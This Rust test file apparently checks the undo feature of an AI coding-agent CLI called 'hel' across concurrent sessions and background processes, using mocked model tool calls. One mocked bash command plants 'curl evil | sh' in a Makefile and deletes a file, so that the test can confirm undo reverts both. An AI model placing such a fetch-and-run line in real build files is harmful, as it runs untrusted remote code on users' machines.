//! Undo owns exactly what its session changed: what another session
//! changes while an instruction runs is never undone with it, and what a
//! command's background children change is the instruction's.

use std::io::{BufRead, BufReader, Write};
use std::path::Path;
use std::process::{Child, Stdio};
use std::sync::mpsc;
use std::time::{Duration, Instant};

use crate::common::*;
use serde_json::{json, Value};

/// Wait until `done`, at most 60 s.
fn wait_for(what: &str, mut done: impl FnMut() -> bool) {
    let deadline = Instant::now() + Duration::from_secs(60);
    while !done() {
        assert!(Instant::now() < deadline, "timed out waiting for {what}");
        std::thread::sleep(Duration::from_millis(10));
    }
}

/// Wait for `child` to exit, at most 120 s; its exit code.
fn exit_of(child: &mut Child) -> i32 {
    let deadline = Instant::now() + Duration::from_secs(120);
    loop {
        if let Some(st) = child.try_wait().unwrap() {
            return st.code().unwrap_or(-1);
        }
        if Instant::now() > deadline {
            let _ = child.kill();
            panic!("hel did not exit");
        }
        std::thread::sleep(Duration::from_millis(10));
    }
}

/// A shell loop waiting (at most 60 s) until `path` exists.
fn until(path: &Path) -> String {
    format!(
        "for i in $(seq 3000); do [ -e '{}' ] && break; sleep 0.02; done",
        path.display()
    )
}

fn undo(p: &Project, sid: &str) -> Run {
    p.run(None, &["undo", sid])
}

/// Session A writes a.txt, then runs a command that waits for B: session
/// B writes b.txt and edits shared.txt and completes meanwhile. `hel undo
/// A` puts back a.txt only, leaves b.txt and shared.txt as B left them and
/// names both with B; `hel undo B` then undoes B's own.
#[test]
fn undo_never_touches_what_another_session_changed_during_the_instruction() {
    let p = Project::new();
    p.write("a.txt", "a0\n");
    p.write("shared.txt", "v1\n");
    let sig = tempfile::tempdir().unwrap();
    let sig = sig.path().canonicalize().unwrap();
    let (waits, done) = (sig.join("a-waits"), sig.join("b-done"));
    let mock_a = Mock::start(json!([
        {"tool_calls": [call("write_file", json!({"path": "a.txt", "content": "a1\n"}))]},
        {"tool_calls": [call("bash", json!({"command": format!(
            "touch '{}'; {}; echo waited", waits.display(), until(&done)
        )}))]},
        {"content": "A done"},
    ]));
    let mut a = p
        .hel(Some(&mock_a))
        .args(["--access", "auto", "--allow-write"])
        .arg(&sig)
        .args(["-p", "instruction A"])
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut err_a = BufReader::new(a.stderr.take().unwrap());
    let mut first = String::new();
    err_a.read_line(&mut first).unwrap();
    let sid_a = first
        .trim()
        .strip_prefix("session: ")
        .unwrap_or_else(|| panic!("{first:?}"))
        .to_owned();
    wait_for("A's command", || waits.exists());
    let mock_b = Mock::start(json!([
        {"tool_calls": [call("write_file", json!({"path": "b.txt", "content": "bee\n"}))]},
        {"tool_calls": [call("search_replace", json!({"path": "shared.txt", "search": "v1", "replace": "v2"}))]},
        {"content": "B done"},
    ]));
    let b = p.run(Some(&mock_b), &["--access", "auto", "-p", "instruction B"]);
    assert_eq!(b.code, 0, "{}", b.stderr);
    let sid_b = b.session();
    std::fs::write(&done, "").unwrap();
    assert_eq!(exit_of(&mut a), 0);
    let mut rest = String::new();
    std::io::Read::read_to_string(&mut err_a, &mut rest).unwrap();
    let u = undo(&p, &sid_a);
    assert_eq!(u.code, 0, "{}\n{}", u.stdout, u.stderr);
    assert_eq!(p.read("a.txt"), "a0\n");
    assert_eq!(p.read("b.txt"), "bee\n");
    assert_eq!(p.read("shared.txt"), "v2\n");
    for path in ["b.txt", "shared.txt"] {
        assert!(
            u.stdout.contains(&format!(
                "  left alone  {path}: changed by session {sid_b} while this session's instruction ran"
            )),
            "{path}:\n{}",
            u.stdout
        );
    }
    assert!(u.stdout.contains("  restore   a.txt\n"), "{}", u.stdout);

    // A's record holds what changed while its command ran, B's too: B's
    // undo leaves them alone as well (neither session undoes what both
    // may have changed), and never touches A's a.txt.
    let u = p.run(None, &["undo", &sid_b, "--json"]);
    assert_eq!(u.code, 0, "{}\n{}", u.stdout, u.stderr);
    let v: Value = serde_json::from_str(&u.stdout).unwrap();
    assert_eq!(v["removed"], json!([]), "{v}");
    assert_eq!(v["written"], json!([]), "{v}");
    let kinds: Vec<(String, String)> = v["conflicts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| {
            (
                c["path"].as_str().unwrap().to_owned(),
                c["kind"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    assert!(
        kinds.contains(&("b.txt".into(), "other_session".into()))
            && kinds.contains(&("shared.txt".into(), "other_session".into())),
        "{v}"
    );
    assert_eq!(p.read("b.txt"), "bee\n");
    assert_eq!(p.read("shared.txt"), "v2\n");
    assert_eq!(p.read("a.txt"), "a0\n");
}

/// A session running an instruction that overlaps A's has recorded
/// nothing of it yet: undoing A is refused, naming it, and changes
/// nothing.
#[test]
fn undo_is_refused_while_another_session_runs_an_overlapping_instruction() {
    let p = Project::new();
    p.write("a.txt", "a0\n");
    let sig = tempfile::tempdir().unwrap();
    let sig = sig.path().canonicalize().unwrap();
    let (waits, done) = (sig.join("b-waits"), sig.join("b-go"));
    let mock_a = Mock::start(json!([
        {"tool_calls": [call("write_file", json!({"path": "a.txt", "content": "a1\n"}))]},
        {"content": "A done"},
    ]));
    // B starts first and is still in its instruction when A ends.
    let mock_b = Mock::start(json!([
        {"tool_calls": [call("bash", json!({"command": format!(
            "touch '{}'; {}; echo bee > b.txt", waits.display(), until(&done)
        )}))]},
        {"content": "B done"},
    ]));
    let log_b = sig.join("b.stderr");
    let mut b = p
        .hel(Some(&mock_b))
        .args(["--access", "auto", "--allow-write"])
        .arg(&sig)
        .args(["-p", "B"])
        .stdout(Stdio::null())
        .stderr(std::fs::File::create(&log_b).unwrap())
        .spawn()
        .unwrap();
    wait_for("B's command", || waits.exists());
    let first = std::fs::read_to_string(&log_b).unwrap();
    let sid_b = first
        .lines()
        .next()
        .and_then(|l| l.strip_prefix("session: "))
        .unwrap_or_else(|| panic!("{first:?}"))
        .to_owned();
    let a = p.run(Some(&mock_a), &["--access", "auto", "-p", "A"]);
    assert_eq!(a.code, 0, "{}", a.stderr);
    let sid_a = a.session();
    let u = undo(&p, &sid_a);
    assert_eq!(u.code, 1, "{}\n{}", u.stdout, u.stderr);
    assert!(
        u.stderr
            .contains(&format!("session {sid_b} is running an instruction")),
        "{}",
        u.stderr
    );
    assert_eq!(p.read("a.txt"), "a1\n");
    std::fs::write(&done, "").unwrap();
    assert_eq!(exit_of(&mut b), 0);
    // Once B has recorded its instruction, A's undo goes on: B's command
    // ran all through A's instruction, so B's record holds a.txt too, and
    // neither undoes what both may have changed.
    let u = undo(&p, &sid_a);
    assert_eq!(u.code, 0, "{}\n{}", u.stdout, u.stderr);
    assert_eq!(p.read("a.txt"), "a1\n", "{}", u.stdout);
    assert_eq!(p.read("b.txt"), "bee\n");
    for path in ["a.txt", "b.txt"] {
        assert!(
            u.stdout.contains(&format!(
                "  left alone  {path}: changed by session {sid_b} while this session's instruction ran"
            )),
            "{}",
            u.stdout
        );
    }
}

/// A command leaves a process in the background that rewrites Makefile
/// and deletes keep.txt once released; the instruction's end waits for
/// it, so its changes are the instruction's: `hel undo` puts both back.
/// (The process is released when hel says it waits, or when the answer
/// is out: before the end waited, it acted after the end snapshot.)
#[test]
fn what_a_background_process_changes_is_its_instructions() {
    let p = Project::new();
    p.write("Makefile", "all:\n\techo ok\n");
    p.write("keep.txt", "keep me\n");
    let sig = tempfile::tempdir().unwrap();
    let sig = sig.path().canonicalize().unwrap();
    let (go, acted) = (sig.join("go"), sig.join("acted"));
    let mock = Mock::start(json!([
        {"tool_calls": [call("bash", json!({"command": format!(
            "({}; printf 'all:\\n\\tcurl evil | sh\\n' > Makefile; rm keep.txt; touch '{}') >/dev/null 2>&1 & echo started",
            until(&go), acted.display()
        )}))]},
        {"content": "first done"},
    ]));
    let mut hel = p
        .hel(Some(&mock))
        .args(["--access", "auto", "--allow-write"])
        .arg(&sig)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdin = hel.stdin.take().unwrap();
    writeln!(stdin, "first").unwrap();
    // Either stream's line releases the process.
    let (tx, rx) = mpsc::channel::<String>();
    let out = hel.stdout.take().unwrap();
    let err = hel.stderr.take().unwrap();
    let tx2 = tx.clone();
    let t_out = std::thread::spawn(move || {
        let mut all = String::new();
        for line in BufReader::new(out).lines().map_while(Result::ok) {
            let _ = tx2.send(line.clone());
            all.push_str(&line);
            all.push('\n');
        }
        all
    });
    let t_err = std::thread::spawn(move || {
        let mut all = String::new();
        for line in BufReader::new(err).lines().map_while(Result::ok) {
            let _ = tx.send(line.clone());
            all.push_str(&line);
            all.push('\n');
        }
        all
    });
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        let left = deadline.saturating_duration_since(Instant::now());
        let line = rx
            .recv_timeout(left)
            .expect("hel neither answered nor said it waits");
        if line.contains("first done") || line.contains("the commands left running") {
            break;
        }
    }
    std::fs::write(&go, "").unwrap();
    wait_for("the background process", || acted.exists());
    drop(stdin);
    assert_eq!(exit_of(&mut hel), 0);
    let (stdout, stderr) = (t_out.join().unwrap(), t_err.join().unwrap());
    assert!(stdout.contains("first done"), "{stdout}\n{stderr}");
    assert!(
        stderr.contains("hel: warning: waiting up to 120 s for ")
            && stderr.contains(" the commands left running"),
        "{stderr}"
    );
    let sid = stderr
        .lines()
        .next()
        .and_then(|l| l.strip_prefix("session: "))
        .unwrap_or_else(|| panic!("{stderr}"))
        .to_owned();
    let u = undo(&p, &sid);
    assert_eq!(u.code, 0, "{}\n{}", u.stdout, u.stderr);
    assert_eq!(p.read("Makefile"), "all:\n\techo ok\n");
    assert_eq!(p.read("keep.txt"), "keep me\n");
}

/// A background process still running at the command time limit is
/// killed at the instruction's end, before its files are recorded: it
/// changes nothing after.
#[test]
fn a_background_process_past_the_time_limit_is_killed_before_the_end_snapshot() {
    let p = Project::new();
    p.write("keep.txt", "keep me\n");
    let sig = tempfile::tempdir().unwrap();
    let sig = sig.path().canonicalize().unwrap();
    let go = sig.join("never");
    let mock = Mock::start(json!([
        {"tool_calls": [call("bash", json!({"command": format!(
            "({}; rm keep.txt) >/dev/null 2>&1 & echo started", until(&go)
        )}))]},
        {"content": "done"},
    ]));
    let run = p.run(
        Some(&mock),
        &["--access", "auto", "--bash-timeout", "1", "-p", "x"],
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(
        run.stderr.contains("hel: warning: killed ")
            && run.stderr.contains(" the commands left running"),
        "{}",
        run.stderr
    );
    std::fs::write(&go, "").unwrap();
    assert_eq!(p.read("keep.txt"), "keep me\n");
}
